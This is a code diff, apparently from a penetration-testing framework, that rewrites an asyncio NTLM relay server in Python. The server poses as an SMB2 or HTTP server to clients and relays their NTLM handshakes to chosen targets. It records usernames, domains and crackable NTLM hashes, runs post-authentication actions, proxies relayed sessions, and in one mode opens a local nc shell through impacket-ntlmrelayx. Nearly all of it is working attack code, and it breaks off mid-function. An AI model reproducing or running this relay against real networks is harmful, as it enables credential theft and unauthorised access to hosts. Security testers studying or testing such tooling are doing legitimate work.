@@ -1,60 +1,148 @@
+import os
 import socket
+import binascii
+import asyncio
 import threading
 import logging
 import subprocess # Add missing import
-from impacket import smb, nmb
-from impacket.smbconnection import SMBConnection
-from impacket.smb3structs import SMB2_DIALECT_002, SMB2_DIALECT_21, SMB2Packet, SMB2Negotiate_Response, SMB2_NEGOTIATE, SMB2SessionSetup
-from impacket.ntlm import NTLMAuthNegotiate, NTLMAuthChallenge, NTLMAuthChallengeResponse
+import itertools
+import shutil
+from collections import deque
+from concurrent.futures import ThreadPoolExecutor
+from typing import Optional
 import struct
 import time
 import platform
-import io # Needed for decoding output
+import functools
+from src.modules.capture.http_server import decode_ntlm_token, http_response, parse_request_head
+from src.modules.exploit.post_auth import DEFAULT_ACTIONS, PostAuthPipeline, resolve_actions
+from src.modules.exploit.relay_phases import PhaseHistograms, RelayPhaseTimer
+from src.modules.exploit.smb_relay_client import SMBRelayClient
+from src.modules.exploit.session_proxy import SessionProxy
+from src.modules.exploit.session_registry import SessionRegistry
+from src.modules.exploit.target_pool import TargetConnectionPool
+from src.modules.exploit.target_scheduler import SCHEDULES, ScopeTarget, TargetScheduler, load_scope
+from src.utils.event_loop import EventLoopThread
+from src.utils.event_sink import EventSink
+from src.utils.framing import BufferPool, FramedConnection, start_framed_server
+from src.utils.metrics import summarize_latencies
+from src.utils.name_resolver import NameResolver
+from src.utils.network_context import NetworkContext
+from src.utils.process_monitor import ProcessOutputMonitor
+from src.utils.ntlm import (NTLM_AUTHENTICATE, NTLM_NEGOTIATE, build_challenge_message, format_hash, hash_type,
+                            message_type, parse_authenticate_message, parse_challenge_message)
+from src.utils.smb_capabilities import CapabilityStore, SMBCapabilities
+from src.utils.target_probe import SMB_PORTS, TargetProbe
+from src.utils.smb2 import (NETBIOS_POSITIVE_RESPONSE, NETBIOS_SESSION_MESSAGE, NETBIOS_SESSION_REQUEST,
+                            SMB1_COM_NEGOTIATE, SMB1_MAGIC, SMB2_DIALECT_202, SMB2_MAGIC, SMB2_NEGOTIATE,
+                            SMB2_SESSION_SETUP, STATUS_MORE_PROCESSING_REQUIRED, SMB2Header,
+                            SMB2ResponseTemplates, build_session_setup_response, choose_dialect,
+                            negotiate_request_dialects, netbios_frame, patch_ids,
+                            session_setup_request_token, smb1_negotiate_dialects)
+from src.utils.spnego import NEG_STATE_ACCEPT_INCOMPLETE, is_spnego, neg_token_resp, unwrap_ntlmssp
+
+# inprocess: relay through SMBRelayClient in this process, the listener stays up
+# subprocess: hand the client over to impacket-ntlmrelayx (compatibility mode)
+RELAY_MODES = ('inprocess', 'subprocess')
+
+# Client protocols told apart by the first bytes of a connection (sniff_protocol)
+PROTOCOL_SMB = 'SMB'
+PROTOCOL_HTTP = 'HTTP'
+
+# First four bytes of the HTTP methods NTLM clients authenticate with
+HTTP_METHOD_PREFIXES = (b'GET ', b'POST', b'HEAD', b'PUT ', b'OPTI', b'PROP', b'DELE', b'MKCO', b'COPY', b'MOVE',
+                        b'LOCK', b'UNLO', b'PATC')
+
+# Largest HTTP request head accepted from a relayed client
+MAX_HTTP_HEAD = 16 * 1024
+
+def sniff_protocol(first: bytes) -> Optional[str]:
+    """Protocol of a client from its first bytes: NetBIOS session service (SMB), HTTP or None"""
+    if first[:1] in (bytes([NETBIOS_SESSION_MESSAGE]), bytes([NETBIOS_SESSION_REQUEST])):
+        return PROTOCOL_SMB
+    if first[:4] in HTTP_METHOD_PREFIXES:
+        return PROTOCOL_HTTP
+    return None
+
+# Lines of impacket-ntlmrelayx output the subprocess mode reacts to
+IMPACKET_MARKERS = {
+    'authenticated': "SUCCEED",
+    'shell_started': "[*] Started interactive SMB client shell via TCP on 127.0.0.1:11000",
+}
 
 class NTLMRelayServer:
-    def __init__(self, listen_address='0.0.0.0', listen_port=445):
+    def __init__(self, listen_address='0.0.0.0', listen_port=445, relay_mode='inprocess', target_port=445,
+                 backlog=1024, max_concurrency=256, executor_workers=32, client_timeout=10, pool_depth=2,
+                 proxy_sessions=False, proxy_idle_timeout=300.0, keep_sessions=False, max_sessions=64,
+                 session_idle_timeout=900.0, scope_file=None, schedule='round-robin', max_per_target=4,
+                 event_sink: EventSink = None, post_auth_actions=DEFAULT_ACTIONS, post_auth_workers=4,
+                 post_auth_timeout=60.0, result_sink: EventSink = None, extra_ports=()):
+        if relay_mode not in RELAY_MODES:
+            raise ValueError(f"Unknown relay mode '{relay_mode}', expected one of {RELAY_MODES}")
+        if relay_mode == 'subprocess' and extra_ports:
+            raise ValueError("Extra listeners need relay_mode='inprocess', ntlmrelayx takes over a single port")
         self.listen_port = listen_port
+        # More ports accepted on the same loop (e.g. 139, 80, 8080); each sniffs its clients' protocol
+        self.extra_ports = list(extra_ports)
+        self.relay_mode = relay_mode
+        # None: 445, or 139 when the target's reachability report says only that one answers
+        self.auto_port = target_port is None
+        self.target_port = target_port or 445
         self.running = False
         self.server_socket = None
-        self.clients = []
-        self.lock = threading.Lock()
+        # Bound sockets of the listen port and the extra ports, and their servers
+        self.listener_sockets = []
+        self.servers = []
+        # Listen backlog, relays talking to the target at once, threads for blocking impacket calls
+        self.backlog = backlog
+        self.max_concurrency = max_concurrency
+        self.executor_workers = executor_workers
+        self.client_timeout = client_timeout
+        self.loop_thread = None
+        self.server = None
+        self.executor = None
+        self.relay_slots = None
+        # Receive buffers shared by the client connections
+        self.buffer_pool = BufferPool()
+        # Pre-negotiated target connections kept per target (0 disables the pool)
+        self.pool_depth = pool_depth
+        self.target_pool = None
+        # Keep successful relays open and proxy the client's traffic instead of denying it
+        self.session_proxy = SessionProxy(proxy_idle_timeout) if proxy_sessions else None
+        # Keep successful relays authenticated for follow-up jobs (submit_job)
+        self.session_registry = (SessionRegistry(max_sessions, session_idle_timeout) if keep_sessions
+                                 else None)
+        # Pick the target per authentication from a scope file instead of relaying to self.target only
+        self.scheduler = (TargetScheduler(load_scope(scope_file), schedule, max_per_target) if scope_file
+                          else None)
+        # Tasks of the open client connections
+        self.clients = set()
         self.logger = logging.getLogger(__name__)
-        self.server_thread = None
         self.target = None
         self.target_computer_name = None
+        # Target addresses and NetBIOS names, shared with main and the scope loader
+        self.resolver = NameResolver.shared()
+        # Signing policy per target, persisted across runs and shared with scripts/target_scanner.py
+        self.capabilities = CapabilityStore.shared()
         self.fallback_ports = [445, 8445, 8446, 8447, 8448]
+        # Negotiate/ACCESS_DENIED frames for the client leg; challenges come from the target
+        self.templates = SMB2ResponseTemplates(build_challenge_message(b'\x00' * 8))
+        self.session_ids = itertools.count(0x0000040000000001)
+        # Client connect -> target authentication time of recent relays
+        self.relay_timings = deque(maxlen=1000)
+        # Per-target histograms of the legs of every relay (get_phase_stats)
+        self.phase_histograms = PhaseHistograms()
+        # Receives one relay_session record per relayed Type 3, off the event loop
+        self.event_sink = event_sink
+        # Actions run on successful relays, on workers of their own; their results go to result_sink
+        self.post_auth = PostAuthPipeline(post_auth_actions, post_auth_workers, post_auth_timeout,
+                                          sink=result_sink)
+        self.handed_over = False
+        # Bumped by every reconfigure()
+        self.generation = 0
 
-        # Handle interface name resolution for Linux
-        if platform.system() == 'Linux':
-            try:
-                # If an interface name is provided, get its IP
-                if listen_address != '0.0.0.0' and not self._is_ip_address(listen_address):
-                    import subprocess
-                    # Use ip addr show to get interface IP
-                    cmd = ['ip', 'addr', 'show', listen_address]
-                    try:
-                        output = subprocess.check_output(cmd, universal_newlines=True)
-                        # Extract IPv4 address using simple parsing
-                        for line in output.split('\n'):
-                            if 'inet ' in line:
-                                ip = line.split()[1].split('/')[0]
-                                if not ip.startswith('127.'):
-                                    self.listen_address = ip
-                                    self.logger.info(f"Resolved interface {listen_address} to IP: {self.listen_address}")
-                                    break
-                        else:
-                            self.logger.warning(f"No IPv4 address found for interface {listen_address}, falling back to 0.0.0.0")
-                            self.listen_address = '0.0.0.0'
-                    except subprocess.CalledProcessError:
-                        self.logger.warning(f"Failed to get IP for interface {listen_address}, falling back to 0.0.0.0")
-                        self.listen_address = '0.0.0.0'
-                else:
-                    self.listen_address = listen_address
-            except Exception as e:
-                self.logger.warning(f"Error resolving interface: {e}, using interface name as provided")
-                self.listen_address = listen_address
-        else:
-            self.listen_address = listen_address
+        # Interface names resolve through the shared cache; unknown names listen on all addresses
+        self.listen_address = NetworkContext.shared().resolve(listen_address, fallback='0.0.0.0')
 
     def _is_ip_address(self, addr):
         try:
@@ -64,163 +152,368 @@ class NTLMRelayServer:
             return False
 
     def set_target(self, target):
-        """Set the target for NTLM relay"""
+        """Set the target for NTLM relay, also while it runs"""
         try:
-            # Basic IP format validation
-            try:
-                socket.inet_aton(target)
-                self.target = target
-                # Try to get NetBIOS name
-                self._get_target_computer_name()
-                self.logger.info(f"[+] Target IP set to: {self.target}")
-                return
-            except socket.error:
-                pass
+            self.reconfigure(target=target)
+        except Exception as e:
+            self.logger.error(f"[-] Failed to set target: {e}")
+            raise
 
-            # Try DNS resolution if not an IP
-            try:
-                target_ip = socket.gethostbyname(target)
+    def reconfigure(self, target=None, target_port=None, scope_file=None, schedule=None, max_per_target=None,
+                    client_timeout=None, post_auth_actions=None):
+        """
+        Change the target, scope and relay options with the listeners kept up.
+
+        Everything that blocks or can fail (name resolution, reading the scope
+        file, checking options) happens first, in the calling thread; the
+        changes are then applied together on the relay's event loop, so every
+        relay sees either the old or the new configuration. Open relays finish
+        on the target they started with. Pooled connections, the scheduling
+        state of targets that stay in scope and kept sessions survive; a scope
+        can be replaced but not removed again.
+
+        Returns:
+            Dict: The configuration now in effect (get_config())
+        """
+        if schedule is not None and schedule not in SCHEDULES:
+            raise ValueError(f"Unknown schedule '{schedule}', expected one of {SCHEDULES}")
+        port = target_port or self.target_port
+        scope = load_scope(scope_file, port) if scope_file else None
+        if scope is not None and not scope:
+            raise ValueError(f"Scope file {scope_file} does not contain any target")
+        actions = resolve_actions(post_auth_actions) if post_auth_actions is not None else None
+        target_ip = None
+        if target:
+            target_ip = self.resolver.resolve_address(target)
+            if target_ip is None:
+                raise ValueError(f"Could not resolve target hostname: {target}")
+            if self.auto_port and target_port is None:
+                port = self._pick_smb_port(target_ip)
+            in_scope = ((target_ip, port) in {t.key for t in scope} if scope is not None
+                        else not self.scheduler or self.scheduler.in_scope(target_ip, port))
+            if not in_scope:
+                raise ValueError(f"Target {target_ip}:{port} is outside the scope")
+        if client_timeout is not None and client_timeout <= 0:
+            raise ValueError("client_timeout must be positive")
+
+        def apply():
+            previous = self.target, self.target_port, self.scheduler
+            if target_ip:
                 self.target = target_ip
-                # Try to get NetBIOS name
-                self._get_target_computer_name()
+                # The NetBIOS name arrives in the background, the IP stands in for it until then
+                self.target_computer_name = self.resolver.cached_name(target_ip) or target_ip
+            self.target_port = port
+            if scope is not None and self.scheduler:
+                self.scheduler.update(scope, schedule, max_per_target)
+            elif scope is not None:
+                self.scheduler = TargetScheduler(scope, schedule or 'round-robin', max_per_target or 4)
+            elif self.scheduler and (schedule or max_per_target):
+                self.scheduler.update(list(self.scheduler.targets.values()), schedule, max_per_target)
+            if client_timeout:
+                self.client_timeout = client_timeout
+            if actions is not None:
+                self.post_auth.actions = actions
+            self.generation += 1
+            return previous
+
+        previous_target, previous_port, previous_scheduler = self._on_loop(apply)
+        previous_scope = set(previous_scheduler.targets) if previous_scheduler else set()
+
+        if target_ip:
+            if target_ip == target:
+                self.logger.info(f"[+] Target IP set to: {self.target}")
+            else:
                 self.logger.info(f"[+] Resolved target {target} to IP: {self.target}")
-            except socket.gaierror as e:
-                raise ValueError(f"Could not resolve target hostname: {target} - {str(e)}")
+            if self.capabilities.lookup(target_ip, self.target_port).signing_required:
+                self.logger.warning(f"[-] Target {target_ip} requires SMB signing, clients will not be relayed to it")
+            self.resolver.netbios_name(target_ip).add_done_callback(
+                lambda future: self._set_computer_name(target_ip, future.result()))
+        if self.target:
+            self._repool_target((previous_target, previous_port))
+        if scope is not None:
+            if self.target_pool:
+                # Warm connections to targets that left the scope are closed
+                for host, scoped_port in previous_scope - set(self.scheduler.targets):
+                    if (host, scoped_port) != (self.target, self.target_port):
+                        self.target_pool.remove_target(host, scoped_port)
+            if self.running:
+                self._watch_scope()
+        if self.running:
+            self.logger.info(f"[*] Relay reconfigured (generation {self.generation})")
+        return self.get_config()
 
-        except Exception as e:
-            self.logger.error(f"[-] Failed to set target: {e}")
-            raise
+    def _on_loop(self, func):
+        """Run func on the relay loop, between the steps of the open relays, or right here if it is not running"""
+        if self.loop_thread and self.loop_thread.is_running():
+            async def call():
+                return func()
+            return self.loop_thread.run(call(), timeout=5)
+        return func()
+
+    def _watch_scope(self):
+        """Prefetch the names of the scoped targets and take those requiring signing out of scheduling"""
+        for target in self.scheduler.targets.values():
+            self.resolver.netbios_name(target.host)
+        threading.Thread(target=self._probe_scope_signing, name='scope-signing', daemon=True).start()
+
+    def get_config(self):
+        """Target, scope and the options reconfigure() can change"""
+        return {
+            'generation': self.generation,
+            'target': self.target,
+            'target_port': self.target_port,
+            'target_name': self.target_computer_name,
+            'scope': [f"{host}:{port}" for host, port in self.scheduler.targets] if self.scheduler else None,
+            'schedule': self.scheduler.schedule if self.scheduler else None,
+            'max_per_target': self.scheduler.max_per_target if self.scheduler else None,
+            'client_timeout': self.client_timeout,
+            'post_auth_actions': [action.name for action in self.post_auth.actions],
+            'listen_ports': self.listen_ports,
+        }
+
+    def _repool_target(self, previous):
+        """Point the connection pool at the new target"""
+        if self.target_pool and previous != (self.target, self.target_port):
+            if previous[0]:
+                self.target_pool.remove_target(*previous)
+            self.target_pool.add_target(self.target, self.target_port, self.target_computer_name)
+
+    def _pick_smb_port(self, target_ip):
+        """SMB port of the target from its (cached) reachability report"""
+        report = TargetProbe.shared().probe(target_ip, SMB_PORTS)
+        port = report.smb_port() if report else None
+        if port is None:
+            return 445
+        if port != 445:
+            self.logger.info(f"[*] Port 445 of {target_ip} does not answer, relaying over port {port}")
+        return port
+
+    def _set_computer_name(self, target_ip, name):
+        if name and self.target == target_ip and self.target_computer_name != name:
+            self.target_computer_name = name
+            self.logger.info(f"[+] Target computer name: {name}")
 
-    def _get_target_computer_name(self):
-        """Try to get the NetBIOS name of the target"""
+    def _bind(self, port):
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         try:
-            nm = nmb.NetBIOS()
-            nm.set_timeout(1)
-            names = nm.queryIPForName(self.target)
-            if names:
-                self.target_computer_name = names[0]
-                self.logger.info(f"[+] Target computer name: {self.target_computer_name}")
-            else:
-                # Fallback to IP if NetBIOS name not found
-                self.target_computer_name = self.target
-                self.logger.debug(f"[*] Using IP as computer name: {self.target_computer_name}")
-        except Exception as e:
-            # Fallback to IP if NetBIOS query fails
-            self.target_computer_name = self.target
-            self.logger.debug(f"[*] NetBIOS query failed, using IP as computer name: {self.target_computer_name}")
+            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+            sock.bind((self.listen_address, port))
+        except socket.error:
+            sock.close()
+            raise
+        return sock
 
     def _try_bind_port(self):
         """Try to bind to an available port"""
         last_error = None
         tried_ports = []
 
-        # Try the specified port first
-        try:
-            self.server_socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            self.server_socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-            self.server_socket.bind((self.listen_address, self.listen_port))
-            return True
-        except socket.error as e:
-            last_error = e
-            tried_ports.append(self.listen_port)
-            self.server_socket.close()
-
-        # Try fallback ports
-        for port in self.fallback_ports:
+        # Try the specified port first, then the fallback ports
+        for port in [self.listen_port] + self.fallback_ports:
             if port in tried_ports:
                 continue
-            
             try:
-                self.server_socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                self.server_socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
-                self.server_socket.bind((self.listen_address, port))
-                self.listen_port = port
-                return True
+                self.server_socket = self._bind(port)
             except socket.error as e:
                 last_error = e
                 tried_ports.append(port)
-                self.server_socket.close()
+                continue
+            # Port 0 picks an ephemeral port
+            self.listen_port = self.server_socket.getsockname()[1]
+            return True
 
         raise last_error
 
+    def _bind_extra_ports(self):
+        """Bind the extra listeners; a port that cannot be bound is skipped"""
+        for port in self.extra_ports:
+            if port == self.listen_port:
+                continue
+            try:
+                self.listener_sockets.append(self._bind(port))
+            except socket.error as e:
+                self.logger.warning(f"[-] Cannot listen on {self.listen_address}:{port}: {e}")
+
+    @property
+    def listen_ports(self):
+        """Ports actually listened on, the listen port first"""
+        return [sock.getsockname()[1] for sock in self.listener_sockets]
+
     def start(self):
         """Start the NTLM Relay Server"""
-        if not self.target:
+        if not self.target and not self.scheduler:
             raise ValueError("Target must be set before starting the server")
 
         try:
-            # Test target connectivity first
-            self._test_target_connectivity()
+            # _pick_target() reads the capability store on the loop; load its file before clients arrive
+            self.capabilities.load()
+
+            # Test target connectivity first; scoped targets are backed off when they fail
+            if self.target:
+                self._test_target_connectivity()
             
+            if self.session_registry:
+                self.session_registry.start()
+
+            if self.scheduler:
+                self._watch_scope()
+
+            if self.relay_mode == 'inprocess' and self.pool_depth:
+                # Pre-negotiate target connections so a Type 1 only costs a session setup
+                self.target_pool = TargetConnectionPool(depth=self.pool_depth)
+                if self.target:
+                    self.target_pool.add_target(self.target, self.target_port, self.target_computer_name)
+                self.target_pool.start()
+
             # Try to bind to a port
             if self._try_bind_port():
-                self.server_socket.listen(5)
+                self.listener_sockets = [self.server_socket]
+                self._bind_extra_ports()
+                for sock in self.listener_sockets:
+                    sock.listen(self.backlog)
+                    sock.setblocking(False)
+                self.executor = ThreadPoolExecutor(max_workers=self.executor_workers,
+                                                   thread_name_prefix='relay-target')
+                self.loop_thread = EventLoopThread('ntlm-relay')
+                self.loop_thread.start()
+                self.loop_thread.run(self._start_server())
                 self.running = True
-                self.server_thread = threading.Thread(target=self._accept_connections, daemon=True)
-                self.server_thread.start()
-                self.logger.info(f"[+] NTLM Relay Server listening on {self.listen_address}:{self.listen_port}")
-                time.sleep(0.1)  # Give the thread time to start
+                ports = ', '.join(str(port) for port in self.listen_ports)
+                self.logger.info(f"[+] NTLM Relay Server listening on {self.listen_address} port(s) {ports}")
                 
         except Exception as e:
             self.logger.error(f"[-] Failed to start server: {e}")
             self.stop()
             raise
 
+    async def _start_server(self):
+        self.relay_slots = asyncio.Semaphore(self.max_concurrency)
+        # All listeners share the loop, the executor, the relay slots and the per-target state
+        self.servers = [await start_framed_server(self._handle_client, sock=sock, backlog=self.backlog,
+                                                  buffer_pool=self.buffer_pool)
+                        for sock in self.listener_sockets]
+        self.server = self.servers[0]
+
     def _test_target_connectivity(self):
         """Test if target is reachable"""
         try:
-            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-            sock.settimeout(3)
-            result = sock.connect_ex((self.target, 445))
-            sock.close()
-            
-            if result != 0:
-                raise ConnectionError(f"Target {self.target} is not accessible on port 445")
+            # Usually answered from the report main.validate_target already probed
+            report = TargetProbe.shared().probe(self.target, (self.target_port,))
+            if not report or not report.reachable(self.target_port):
+                raise ConnectionError(f"Target {self.target} is not accessible on port {self.target_port}")
                 
             self.logger.info(f"[+] Target {self.target} is accessible")
             
         except Exception as e:
             raise ConnectionError(f"Failed to connect to target: {e}")
 
-    def _connect_to_target(self):
-        """Establish SMB connection object for target"""
+    async def _target_call(self, func, *args):
+        """Run a blocking impacket call on the bounded target executor"""
+        return await asyncio.get_running_loop().run_in_executor(self.executor, func, *args)
+
+    def _acquire_target(self, target: ScopeTarget) -> SMBRelayClient:
+        """Negotiated connection to the target, from the pool when there is one"""
+        if self.scheduler:
+            target.name = self.resolver.cached_name(target.host) or target.name
+        if self.target_pool:
+            # Scoped targets are pooled from their first relay on
+            self.target_pool.add_target(target.host, target.port, target.name)
+            return self.target_pool.acquire(target.host, target.port, target.name)
+        relay_client = SMBRelayClient(target.host, target.name, target.port)
+        relay_client.init_connection()
+        return relay_client
+
+    def _pick_target(self, client_ip) -> Optional[ScopeTarget]:
+        """Target for a new relay: the scheduler's choice, or the fixed target; never one requiring signing"""
+        if not self.scheduler:
+            if self.capabilities.signing_required(self.target, self.target_port):
+                return None
+            return ScopeTarget(self.target, self.target_port, self.target_computer_name)
+        while True:
+            target = self.scheduler.acquire(client_ip)
+            if target is None or not self.capabilities.signing_required(target.host, target.port):
+                return target
+            self.scheduler.exclude(target.host, target.port, 'requires SMB signing')
+            self.scheduler.release(target, None)
+
+    def _signing_required(self, target: ScopeTarget, relay_client: SMBRelayClient):
+        """Remember a target found to require signing so later clients are not relayed to it"""
+        self.logger.warning(f"[-] Target {target.host} requires SMB signing, "
+                            "the relayed session will not be usable")
+        # Later picks see the entry at once; the file is written off the loop
+        self.capabilities.record(SMBCapabilities(target.host, target.port, relay_client.dialect(),
+                                                 True, True, time.time(), None), save=False)
+        asyncio.get_running_loop().run_in_executor(None, self.capabilities.flush)
+        if self.scheduler:
+            self.scheduler.exclude(target.host, target.port, 'requires SMB signing')
+
+    def _probe_scope_signing(self):
+        """Take scoped targets that require signing out of scheduling, probing the ones not stored yet"""
+        for capabilities in self.capabilities.lookup_many(self.scheduler.targets):
+            if capabilities.signing_required:
+                self.scheduler.exclude(capabilities.address, capabilities.port, 'requires SMB signing')
+
+    async def _open_target(self, client_ip):
+        """Pick a target and take a relay slot and a negotiated connection to it"""
+        target = self._pick_target(client_ip)
+        if target is None:
+            self.logger.warning(f"[-] No usable target available for {client_ip}")
+            return None, None
+        await self.relay_slots.acquire()
         try:
-            # Create SMB Connection with proper parameters
-            # Use target IP for remoteHost, and resolved/fallback name for remoteName
-            smbClient = SMBConnection(remoteName=self.target_computer_name,
-                                    remoteHost=self.target,
-                                    myName='RELAY', # Use a generic name for our client
-                                    sess_port=445)
+            relay_client = await self._target_call(self._acquire_target, target)
+        except BaseException as e:
+            self.relay_slots.release()
+            if self.scheduler:
+                self.scheduler.release(target, False if isinstance(e, Exception) else None)
+            raise
+        if relay_client.is_signing_required():
+            self._signing_required(target, relay_client)
+        return target, relay_client
 
-            smbClient.setTimeout(5) # Set timeout
-            self.logger.debug(f"[*] SMBConnection object created for target {self.target}")
-            return smbClient
+    def get_pool_stats(self):
+        """Hit rate and negotiate latency of the target connection pool"""
+        return self.target_pool.get_stats() if self.target_pool else {}
 
-        except Exception as e:
-            self.logger.error(f"[-] Error creating SMBConnection object for target {self.target}: {e}", exc_info=True)
-            return None
+    async def _read_frame(self, connection: FramedConnection):
+        return await asyncio.wait_for(connection.read_frame(), self.client_timeout)
 
-    def _accept_connections(self):
-        """Accept incoming connections"""
-        while self.running:
-            try:
-                client, address = self.server_socket.accept()
-                self.logger.info(f"[+] Connection from {address[0]}:{address[1]}")
-                
-                with self.lock:
-                    self.clients.append(client)
-                
-                client_thread = threading.Thread(
-                    target=self._handle_relay_authentication,
-                    args=(client, address),
-                    daemon=True
-                )
-                client_thread.start()
-                
-            except Exception as e:
-                if self.running:
-                    self.logger.error(f"[-] Error accepting connection: {e}")
-                break
+    async def _handle_client(self, connection: FramedConnection):
+        """Relay one client connection"""
+        connected_at = time.perf_counter()
+        address = connection.get_extra_info('peername')
+        task = asyncio.current_task()
+        self.clients.add(task)
+        self.logger.info(f"[+] Connection from {address[0]}:{address[1]}")
+        try:
+            # Check if client is the same as target (prevent self-relay)
+            if address[0] == self.target:
+                self.logger.warning(f"[-] Client {address[0]} is same as target - cannot relay to self!")
+                return
+            if self.relay_mode == 'subprocess':
+                await self._relay_subprocess(connection, address, connected_at)
+                return
+            # Every listener takes every protocol; the client's first bytes pick how it is read
+            protocol = sniff_protocol(await asyncio.wait_for(connection.peek(4), self.client_timeout))
+            if protocol == PROTOCOL_SMB:
+                await self._relay_smb(connection, address, connected_at)
+            elif protocol == PROTOCOL_HTTP:
+                await self._relay_http(connection, address, connected_at)
+            else:
+                self.logger.debug(f"[*] Unknown protocol from {address[0]}, closing")
+
+        except (ConnectionError, asyncio.IncompleteReadError, struct.error):
+             self.logger.warning(f"[*] Connection from {address[0]} closed during relay.")
+        except asyncio.TimeoutError:
+             self.logger.warning(f"[*] Timed out waiting for {address[0]} during relay.")
+        except asyncio.CancelledError:
+             self.logger.debug(f"[*] Relay with {address[0]} cancelled by shutdown")
+        except Exception as e:
+            self.logger.error(f"[-] Relay authentication failed: {e}", exc_info=True)
+        finally:
+            self.clients.discard(task)
+            connection.close()
+            self.logger.debug(f"[*] Closed connection for {address[0]}")
 
     def _launch_nc_terminal(self):
         """Launches nc 127.0.0.1 11000 in a new terminal based on OS."""
@@ -272,313 +565,512 @@ class NTLMRelayServer:
             self.logger.error(f"[-] Failed during nc terminal launch process: {e}", exc_info=True)
 
 
-    def _monitor_impacket_output(self, process):
-        """Monitors impacket process output for the shell start message."""
-        shell_started_marker = "[*] Started interactive SMB client shell via TCP on 127.0.0.1:11000"
-        self.logger.debug(f"[*] Monitoring impacket output for: '{shell_started_marker}'")
+    def _on_impacket_event(self, client_ip, connected_at, event, line):
+        """Handle a marker line of impacket-ntlmrelayx's output"""
+        if event == 'authenticated':
+            # Includes the interpreter start and the client reconnecting to ntlmrelayx
+            self._record_timing(client_ip, 'subprocess', connected_at, 'SUCCEED')
+        elif event == 'shell_started':
+            self._launch_nc_terminal()
+
+
+    def _record_timing(self, client_ip, mode, connected_at, outcome, user=None, target=None, timer=None):
+        """Keep the result of one relay with its phase offsets and add its legs to the target's histograms"""
+        completed = outcome != 'INCOMPLETE'
+        elapsed = time.perf_counter() - connected_at if completed else None
+        if target:
+            target_key = f"{target.host}:{target.port}"
+        else:
+            target_key = f"{self.target}:{self.target_port}" if self.target else None
+        record = {'client': client_ip, 'mode': mode, 'user': user, 'target': target_key, 'outcome': outcome,
+                  'connect_to_auth_s': elapsed, 'phases': timer.offsets() if timer else {}}
+        self.relay_timings.append(record)
+        if timer:
+            self.phase_histograms.record(target_key, timer, completed)
+        if completed:
+            self.logger.info(f"[*] Client {client_ip} connect -> target authentication ({mode}): "
+                             f"{elapsed * 1000:.1f} ms")
+        else:
+            legs = ', '.join(f"{phase} {seconds * 1000:.1f} ms" for phase, seconds in timer.legs().items())
+            self.logger.warning(f"[-] Relay of {client_ip} to {target_key} ended after {timer.last_phase} ({legs})")
+        return record
+
+    def _record_post_auth(self, record, timer: RelayPhaseTimer, session=None):
+        """Add the post-authentication action to a relay's record and histograms, then emit its session"""
+        timer.mark('post_auth')
+        record['phases']['post_auth'] = timer.offsets()['post_auth']
+        self.phase_histograms.observe(record['target'], 'post_auth', timer.legs()['post_auth'])
+        self._emit_session(session)
+
+    def _session_record(self, record, target: ScopeTarget, auth, server_challenge, status, protocol='SMB'):
+        """relay_session record of a relayed Type 3: client, target, credential, outcome and phase offsets"""
+        return {
+            'type': 'relay_session',
+            'client': record['client'],
+            'protocol': protocol,
+            'target': record['target'],
+            'target_name': target.name,
+            'username': auth['username'],
+            'domain': auth['domain'],
+            'workstation': auth['workstation'],
+            'hash_type': hash_type(auth),
+            'server_challenge': server_challenge.hex() if server_challenge else None,
+            'ntlm_hash': format_hash(auth, server_challenge) if server_challenge else None,
+            'status': f"{status:#x}",
+            'outcome': record['outcome'],
+            # Shared with the relay record, so a post-auth phase still lands in it before emission
+            'phases': record['phases'],
+            'relayed_at': time.time(),
+        }
+
+    def _emit_session(self, session):
+        if session and self.event_sink:
+            self.event_sink.emit(session)
+
+    def get_relay_timings(self):
+        """Summarize client connect -> target authentication latency per relay mode"""
+        summary = {}
+        for mode in RELAY_MODES:
+            values = [t['connect_to_auth_s'] for t in self.relay_timings
+                      if t['mode'] == mode and t['connect_to_auth_s'] is not None]
+            if values:
+                summary[mode] = summarize_latencies(values)
+        return summary
+
+    def get_phase_stats(self, target=None):
+        """Latency histograms of each relay leg per target ('host:port'), and where incomplete relays stopped"""
+        return self.phase_histograms.get_stats(target)
 
-        # Use io.TextIOWrapper for proper decoding and handling line endings
+    async def _relay_smb(self, connection, address, connected_at):
+        """
+        Play the SMB2 server to the client and relay its NTLMSSP messages to the target.
+
+        NEGOTIATE is answered from the templates; the Type 1 is relayed with
+        SMBRelayClient, the target's Type 2 is returned in the client's own
+        wrapping (SPNEGO or raw) under the target's SessionID and the Type 3
+        is relayed back. The client gets STATUS_ACCESS_DENIED once the target
+        accepted it so it does not continue on the relayed session, unless
+        sessions are proxied: then it gets the target's own answer and its
+        traffic is passed to the target from there on. Target calls run on
+        the executor and at most max_concurrency relays talk to the target at
+        once.
+        Every phase is timestamped on a RelayPhaseTimer; the offsets are kept
+        with the relay's record and the legs in per-target histograms. Each
+        relayed Type 3 is emitted to event_sink as a relay_session record
+        once the post-auth action is done.
+        """
+        relay_client = None
+        target = None
+        user = None
+        server_challenge = None
+        timer = RelayPhaseTimer(connected_at)
+        record = None
+        # Scheduler outcome until the target answered the Type 3: False if it refused the Type 1
+        outcome = None
+        released = False
+        challenged = False
+        session_id = next(self.session_ids)
+        dialect = None
         try:
-            for line in io.TextIOWrapper(process.stdout, encoding="utf-8", errors='ignore'):
-                line = line.strip() # Remove leading/trailing whitespace
-                if line: # Log non-empty lines for debugging if needed
-                    self.logger.debug(f"[impacket] {line}")
-                if shell_started_marker in line:
-                    self._launch_nc_terminal()
-                    break # Stop monitoring once found
-        except Exception as e:
-             # Handle cases like process terminating unexpectedly
-             self.logger.error(f"[-] Error reading impacket output: {e}", exc_info=True)
+            while self.running:
+                kind, message = await self._read_frame(connection)
+                if kind == NETBIOS_SESSION_REQUEST:
+                    connection.write(bytes([NETBIOS_POSITIVE_RESPONSE, 0, 0, 0]))
+                    await connection.drain()
+                    continue
+                if kind != NETBIOS_SESSION_MESSAGE or len(message) < 4:
+                    return
+
+                if message[:4] == SMB1_MAGIC:
+                    if message[4] != SMB1_COM_NEGOTIATE:
+                        return
+                    # Multi-protocol negotiate: upgrade the client to SMB2
+                    dialects = smb1_negotiate_dialects(message)
